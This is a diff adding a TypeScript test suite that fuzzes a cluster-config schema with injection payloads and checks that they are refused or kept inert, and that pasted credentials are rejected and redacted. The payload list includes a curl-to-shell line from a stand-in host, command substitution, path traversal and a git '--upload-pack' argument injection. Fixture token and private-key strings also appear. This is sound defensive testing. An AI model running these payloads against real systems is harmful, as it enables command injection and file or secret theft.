@@ -1,0 +1,229 @@
+/**
+ * Hostile input never reaches the cluster: a corpus of payloads goes into EVERY string field of the site
+ * schema (found by walking the zod schema, so a new field is covered without editing this test). Each payload
+ * is refused with the field's path — never a stack trace — or, in the one free-text field (the Dex
+ * configuration, a YAML document), comes out byte-exact as data in argocd-cm.
+ */
+import { parse } from 'yaml';
+import { z } from 'zod';
+import { ConfigError, REDACTED, resolveSite, validateSite } from '../config/load';
+import { siteSchema } from '../config/schema';
+import { scanForSecrets } from '../config/secret-scan';
+import { findResource, synth } from './helpers';
+
+export const PAYLOADS: readonly string[] = [
+  'x\n; curl http://evil.example/x | sh',
+  'a\r\nb',
+  '$(id)',
+  '${HOME}',
+  '`id`',
+  'a;b',
+  'a && b',
+  'a | b',
+  "it's",
+  'say "hi"',
+  '{{ .Data.data.admin_password }}',
+  '{{- with secret "kv/data/other" -}}',
+  ']]>',
+  '<![CDATA[x]]>',
+  '</name><evil/>',
+  'a\u2028b',
+  'a\u2029b',
+  'a\u0085b',
+  'a\u0000b',
+  'a\tb',
+  '\u202egnp.exe',
+  '%{ if true }x%{ endif }',
+  '..',
+  '../../etc/passwd',
+  '-rf',
+  '--upload-pack=touch /tmp/pwned',
+  'x'.repeat(100 * 1024),
+  'HEAD@{1}',
+  ' leading',
+  '',
+];
+
+/** A field of the schema that holds a string, with the value to build around it. */
+interface StringField {
+  readonly path: (string | number)[];
+  /** The schema is an enum: payloads are refused by definition, still worth asserting. */
+  readonly enumValues?: readonly string[];
+}
+
+function unwrap(s: z.core.$ZodType): z.core.$ZodType {
+  let cur = s;
+  while (cur instanceof z.ZodDefault || cur instanceof z.ZodPrefault || cur instanceof z.ZodOptional) cur = cur.unwrap() as z.core.$ZodType;
+  return cur;
+}
+
+/** Every string leaf of the schema; array elements as index 0. */
+export function stringFields(schema: z.core.$ZodType = siteSchema, path: (string | number)[] = []): StringField[] {
+  const s = unwrap(schema);
+  if (s instanceof z.ZodString) return [{ path }];
+  if (s instanceof z.ZodEnum) return [{ path, enumValues: s.options as string[] }];
+  if (s instanceof z.ZodArray) return stringFields(s.element as z.core.$ZodType, [...path, 0]);
+  if (s instanceof z.ZodObject) return Object.entries(s.shape).flatMap(([k, v]) => stringFields(v as z.core.$ZodType, [...path, k]));
+  return [];
+}
+
+/** Required siblings of an array element, so only the field under test is wrong. */
+const ELEMENT: Readonly<Record<string, Record<string, unknown>>> = {
+  nodes: { name: 'node-01', ip: '192.168.10.20' },
+  'workloads.minio.buckets': { name: 'backups' },
+  'workloads.minio.clients': { namespace: 'monitoring', app: 'loki' },
+};
+
+/** A site input with `value` at `path` (array elements completed from ELEMENT). */
+export function inputWith(path: readonly (string | number)[], value: unknown): Record<string, unknown> {
+  const root: Record<string, unknown> = {};
+  let cur: Record<string, unknown> | unknown[] = root;
+  const keys: string[] = [];
+  path.forEach((p, i) => {
+    const last = i === path.length - 1;
+    if (typeof p === 'number') {
+      const arr = cur as unknown[];
+      if (last) arr[p] = value;
+      else {
+        const el = { ...(ELEMENT[keys.join('.')] ?? {}) };
+        arr[p] = el;
+        cur = el;
+      }
+      return;
+    }
+    keys.push(p);
+    const obj = cur as Record<string, unknown>;
+    if (last) obj[p] = value;
+    else {
+      obj[p] = typeof path[i + 1] === 'number' ? [] : (obj[p] ?? {});
+      cur = obj[p] as Record<string, unknown> | unknown[];
+    }
+  });
+  return root;
+}
+
+const dotted = (path: readonly (string | number)[]) => path.map((p, i) => (typeof p === 'number' ? `[${p}]` : `${i ? '.' : ''}${p}`)).join('');
+
+function outcome(input: unknown): { ok: true } | { ok: false; paths: string[]; values: unknown[] } {
+  try {
+    validateSite(input, 'corpus');
+    return { ok: true };
+  } catch (e) {
+    // Anything but a ConfigError is a crash: the test fails with it.
+    if (!(e instanceof ConfigError)) throw e;
+    return { ok: false, paths: e.issues.map((i) => i.path), values: e.issues.map((i) => i.value) };
+  }
+}
+
+const FIELDS = stringFields();
+/** Characters no target treats specially (sh, HCL, XML, YAML plain scalar after the yaml library, Go templates). */
+const INERT = /^[A-Za-z0-9_@%+=:,./~-]{0,2048}$/;
+const FREE_TEXT = new Set(['workloads.argocd.dex.config']);
+
+beforeAll(() => {
+  // One secretlint process for the whole corpus instead of one per case (results are cached per text).
+  scanForSecrets(PAYLOADS.flatMap((p) => [p, `https://vault.domus.lan:8200${p}`, `main${p}`, `${p}-x`]).map((text, i) => ({ id: String(i), text })));
+});
+
+test('the schema walk finds the string fields that reach generated files', () => {
+  const paths = FIELDS.map((f) => dotted(f.path));
+  for (const p of ['vault.address', 'vault.caCert', 'git.repoURL', 'git.revision', 'git.path', 'workloads.argocd.dex.config', 'cluster.domain', 'nodes[0].name', 'workloads.minio.buckets[0].name', 'workloads.traefik.adminAllowCidrs[0]']) expect(paths).toContain(p);
+  expect(paths.length).toBeGreaterThan(60);
+});
+
+describe.each(FIELDS.filter((f) => !FREE_TEXT.has(dotted(f.path))).map((f) => [dotted(f.path), f] as const))('%s', (name, field) => {
+  test('every payload, alone and around a valid value, is refused with this field path or is a plain word', () => {
+    const crashes: string[] = [];
+    for (const payload of PAYLOADS) {
+      // Around a valid value too: a validator that only checks a prefix would pass "main\n; cmd".
+      const variants = [payload, `main${payload}`, `${payload}-x`, ...(name === 'vault.address' ? [`https://vault.domus.lan:8200${payload}`] : [])];
+      for (const v of variants) {
+        const r = outcome(inputWith(field.path, v));
+        // Accepted only when the value is a plain word (what the shell, HCL, XML, YAML and templates all read
+        // literally) of bounded length: "main-rf" is a fine branch name, "main\n; cmd" never is.
+        if (r.ok) {
+          if (!INERT.test(v)) crashes.push(`accepted ${JSON.stringify(v.slice(0, 60))}`);
+        } else if (!r.paths.some((p) => p === name || name.startsWith(`${p}.`) || name.startsWith(`${p}[`))) crashes.push(`${JSON.stringify(v.slice(0, 40))} refused under ${r.paths.join(', ')}, not ${name}`);
+      }
+    }
+    expect(crashes).toEqual([]);
+  });
+});
+
+describe('the Dex configuration (free YAML) carries payloads as inert data', () => {
+  test.each(PAYLOADS.filter((p) => p.length < 1000 && !/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/.test(p)).map((p) => [JSON.stringify(p), p]))('%s', (_n, payload) => {
+    const config = `connectors:\n  - type: oidc\n    id: idp\n    name: ${JSON.stringify(payload)}\n    config:\n      issuer: https://idp.domus.lan\n      clientID: argocd\n      clientSecret: $dex.oidc.clientSecret\n`;
+    const input = { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.domus.lan'], config } } } };
+    const cm = findResource('ConfigMap', 'argocd-cm', 'argocd', synth(input)) as unknown as { data: Record<string, string> };
+    expect(cm.data['dex.config']).toBe(config);
+    expect((parse(cm.data['dex.config']!) as { connectors: { name: string }[] }).connectors[0]!.name).toBe(payload);
+  });
+  test('a payload that is not YAML, or a document that is not a mapping, is refused', () => {
+    for (const payload of ['{{ .Data }}: [', '$(id)', '- a\n- b', 'a: [', 'x'.repeat(100 * 1024)]) {
+      const r = outcome({ workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.domus.lan'], config: payload } } } });
+      expect(r.ok).toBe(false);
+      if (!r.ok) expect(r.paths).toContain('workloads.argocd.dex.config');
+    }
+  });
+});
+
+describe('credentials are refused wherever they appear, with the field path, and never echoed', () => {
+  const GHP = `ghp_${'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'}`;
+  const PRIVATE_KEY = [
+    '-----BEGIN PRIVATE KEY-----',
+    'MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgevZzL1gdAFr88hb2',
+    'OF/2NxApJCzGCEDdfSp6VQO30hyhRANCAAQRWz+jn65BtOMvdyHKcvjBeBSDZH2r',
+    '1RTwjmYSi9R/zpBnuQ4EiMnCqfMPWiZqB4QdbAd0E7oH50VpuZ1P087G',
+    '-----END PRIVATE KEY-----',
+  ].join('\n');
+  const CERT = validateSite({}).vault.caCert ?? require('../config/trust').EXAMPLE_CA_PEM;
+  test.each([
+    ['a token in git.repoURL', { git: { repoURL: `https://${GHP}@github.com/me/homelab.git` } }, 'git.repoURL'],
+    ['user:password in git.repoURL', { git: { repoURL: 'https://me:hunter2@git.domus.lan/homelab.git' } }, 'git.repoURL'],
+    ['user:password in vault.address', { vault: { address: 'https://admin:hunter2@vault.domus.lan:8200' } }, 'vault.address'],
+    ['a private key pasted between certificates', { vault: { caCert: `${CERT}${PRIVATE_KEY}\n${CERT}` } }, 'vault.caCert'],
+    ['JSON-style quoted clientSecret in Dex', { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: '{"connectors":[{"type":"oidc","id":"x","name":"x","config":{"clientSecret":"hunter2"}}]}' } } } }, 'workloads.argocd.dex.config'],
+    ['quoted bindPW in Dex YAML', { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: "connectors:\n- type: ldap\n  config:\n    'bindPW': hunter2\n" } } } }, 'workloads.argocd.dex.config'],
+    ['a token in a field that accepts its characters (git.revision)', { git: { revision: GHP } }, 'git.revision'],
+    ['a token anywhere in the Dex config (secretlint)', { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: `connectors:\n- type: github\n  id: gh\n  name: ${GHP}\n` } } } }, 'workloads.argocd.dex.config'],
+  ])('%s', (_n, input, path) => {
+    let err: unknown;
+    try {
+      validateSite(input, 'site.yaml');
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(ConfigError);
+    const e = err as ConfigError;
+    const issue = e.issues.find((i) => i.path === path);
+    expect(issue).toBeDefined();
+    expect(issue!.value).toBe(REDACTED);
+    for (const secret of [GHP, 'hunter2', 'MIGHAgEAMBMGByqGSM49']) expect(e.message).not.toContain(secret);
+  });
+  test('a reference ($dex.<key>) and a public certificate are fine', () => {
+    expect(() => validateSite({ vault: { caCert: CERT }, workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: 'connectors:\n- type: ldap\n  id: l\n  name: L\n  config:\n    bindPW: $dex.ldap.bindPW\n' } } } })).not.toThrow();
+  });
+});
+
+describe('every error is a field-path message, never a stack trace', () => {
+  test('an unparsable repoURL names the field', () => {
+    const r = outcome({ git: { repoURL: 'https://[::1/x.git' } });
+    expect(r).toEqual({ ok: false, paths: ['git.repoURL'], values: ['https://[::1/x.git'] });
+  });
+  test('git.revision: newlines and 200 KB are refused', () => {
+    expect(outcome({ git: { revision: 'main\nx' } })).toMatchObject({ ok: false, paths: ['git.revision'] });
+    expect(outcome({ git: { revision: 'a'.repeat(200 * 1024) } })).toMatchObject({ ok: false, paths: ['git.revision'] });
+  });
+  test('resolveSite on a missing file and on broken YAML throws ConfigError only', () => {
+    expect(() => resolveSite(['--config', '/nonexistent/site.yaml'], {})).toThrow(ConfigError);
+    expect(() => resolveSite(['--config'], {})).toThrow(ConfigError);
+  });
+  test.each([null, 42, 'text', [], [1, 2], { cluster: null }, { nodes: 'x' }, { nodes: [null] }, { workloads: { minio: { buckets: [{}] } } }])('%p', (input) => {
+    expect(() => validateSite(input)).not.toThrow(TypeError);
+    try {
+      validateSite(input);
+    } catch (e) {
+      expect(e).toBeInstanceOf(ConfigError);
+    }
+  });
+});
